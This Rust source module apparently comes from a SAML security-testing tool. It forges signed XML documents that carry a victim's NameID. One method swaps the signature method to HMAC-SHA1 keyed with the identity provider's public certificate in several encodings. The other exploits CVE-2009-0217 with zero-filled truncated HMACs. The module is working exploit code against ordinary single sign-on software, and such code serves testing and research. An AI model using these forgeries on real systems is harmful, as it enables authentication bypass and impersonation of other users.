//! A forged document with a message authentication code for a signature: the secret is what everybody has.

use super::Attacker;
use super::document::{Document, missing};
use super::signature::Signature;
use super::signed_info::every_signature;
use crate::WireError;
use crate::names::DSIG;
use crate::tree::{Edits, Id};
use aws_lc_rs::hmac;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde::{Deserialize, Serialize};

/// `hmac-sha1` of XML Signature.
const HMAC_SHA1: &str = "http://www.w3.org/2000/09/xmldsig#hmac-sha1";

/// What a program may take for the secret when it was configured with a certificate.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum HmacSecret {
    /// The certificate in base64, one line, without header.
    Base64,
    /// The octets of the certificate.
    Der,
    /// PEM with lines of 64 characters and a line break at the end.
    Pem,
    /// PEM without the line break at the end.
    PemTrimmed,
    /// The octets of the public key (SubjectPublicKeyInfo).
    Spki,
    /// The public key as PEM, with a line break at the end.
    SpkiPem,
}

impl HmacSecret {
    /// All of them.
    pub const ALL: [Self; 6] =
        [Self::Base64, Self::Der, Self::Pem, Self::PemTrimmed, Self::Spki, Self::SpkiPem];

    pub(super) fn sentence(self) -> &'static str {
        match self {
            Self::Base64 => {
                "the NameID was edited, and the signature is an HMAC with the certificate in base64"
            }
            Self::Der => {
                "the NameID was edited, and the signature is an HMAC with the octets of the certificate"
            }
            Self::Pem => {
                "the NameID was edited, and the signature is an HMAC with the certificate as PEM"
            }
            Self::PemTrimmed => {
                "the NameID was edited, and the signature is an HMAC with the certificate as PEM without its last line break"
            }
            Self::Spki => {
                "the NameID was edited, and the signature is an HMAC with the octets of the public key"
            }
            Self::SpkiPem => {
                "the NameID was edited, and the signature is an HMAC with the public key as PEM"
            }
        }
    }

    fn octets(self, certificate: &[u8]) -> Result<Vec<u8>, WireError> {
        const CERTIFICATE: &str = "CERTIFICATE";
        Ok(match self {
            Self::Base64 => STANDARD.encode(certificate).into_bytes(),
            Self::Der => certificate.to_vec(),
            Self::Pem => (pem(CERTIFICATE, certificate) + "\n").into_bytes(),
            Self::PemTrimmed => pem(CERTIFICATE, certificate).into_bytes(),
            Self::Spki => public_key(certificate)?,
            Self::SpkiPem => (pem("PUBLIC KEY", &public_key(certificate)?) + "\n").into_bytes(),
        })
    }
}

fn pem(label: &str, octets: &[u8]) -> String {
    let base64 = STANDARD.encode(octets);
    let lines: Vec<&str> = base64
        .as_bytes()
        .chunks(64)
        .map(|line| std::str::from_utf8(line).expect("base64 is ASCII"))
        .collect();
    format!("-----BEGIN {label}-----\n{}\n-----END {label}-----", lines.join("\n"))
}

fn public_key(certificate: &[u8]) -> Result<Vec<u8>, WireError> {
    let (_, parsed) = x509_parser::parse_x509_certificate(certificate)
        .map_err(|error| WireError::Key(format!("the certificate: {error}")))?;
    Ok(parsed.public_key().raw.to_vec())
}

/// The victim's name, and every signature an HMAC.
pub(super) fn confused(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
    secret: HmacSecret,
) -> Result<String, WireError> {
    authenticated(document.forged(attacker)?, attacker, secret)
}

/// The document as it is, with an HMAC for every signature.
pub(super) fn authenticated(
    xml: String,
    attacker: &Attacker<'_>,
    secret: HmacSecret,
) -> Result<String, WireError> {
    let octets = secret.octets(attacker.idp_certificate)?;
    let key = hmac::Key::new(hmac::HMAC_SHA1_FOR_LEGACY_USE_ONLY, &octets);
    let prepared = every_signature(xml, |document, signature| method(document, signature, ""))?;
    with_values(prepared, |signed| STANDARD.encode(hmac::sign(&key, signed)))
}

/// The victim's name, and every signature an HMAC of which so many bits are to be compared (CVE-2009-0217).
pub(super) fn truncated(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
    bits: u8,
) -> Result<String, WireError> {
    of_bits(document.forged(attacker)?, bits)
}

/// The document as it is, with an HMAC of so many bits for every signature, all of them zero.
pub(super) fn of_bits(xml: String, bits: u8) -> Result<String, WireError> {
    let prepared = every_signature(xml, |document, signature| {
        let name = document.tree.sibling_name(signature.signature, "HMACOutputLength");
        method(document, signature, &format!("<{name}>{bits}</{name}>"))
    })?;
    let zeros = vec![0; usize::from(bits).div_ceil(8)];
    with_values(prepared, |_| STANDARD.encode(&zeros))
}

/// Digests and values of all signatures, one after the other: what signs the Response covers the assertion's.
fn with_values(xml: String, value: impl Fn(&[u8]) -> String) -> Result<String, WireError> {
    let count = Document::read(&xml)?.signed_elements()?.len();
    (0..count).try_fold(xml, |xml, index| {
        let xml = replaced(&xml, index, |document, signature| {
            Ok((signature.digest_value, signature.digest(document)?))
        })?;
        replaced(&xml, index, |document, signature| {
            Ok((signature.signature_value, value(&signature.signed_bytes(document)?)))
        })
    })
}

/// The document with another text in one element of a signature.
fn replaced(
    xml: &str,
    index: usize,
    text: impl Fn(&Document<'_>, &Signature) -> Result<(Id, String), WireError>,
) -> Result<String, WireError> {
    let document = Document::read(xml)?;
    let signature = Signature::read(&document, document.signed_elements()?[index])?;
    let (element, text) = text(&document, &signature)?;
    let mut edits = Edits::default();
    edits.replace(document.tree.content(element).ok_or_else(|| missing("text"))?, text);
    Ok(edits.apply(xml))
}

/// The SignatureMethod of an HMAC.
fn method(
    document: &Document<'_>,
    signature: &Signature,
    parameter: &str,
) -> Result<Edits, WireError> {
    let tree = &document.tree;
    let old = tree.child(signature.signed_info, DSIG, "SignatureMethod");
    let old = old.ok_or_else(|| missing("SignatureMethod"))?;
    let name = tree.name(old);
    let mut edits = Edits::default();
    edits.replace(
        tree.range(old),
        format!(r#"<{name} Algorithm="{HMAC_SHA1}">{parameter}</{name}>"#),
    );
    Ok(edits)
}
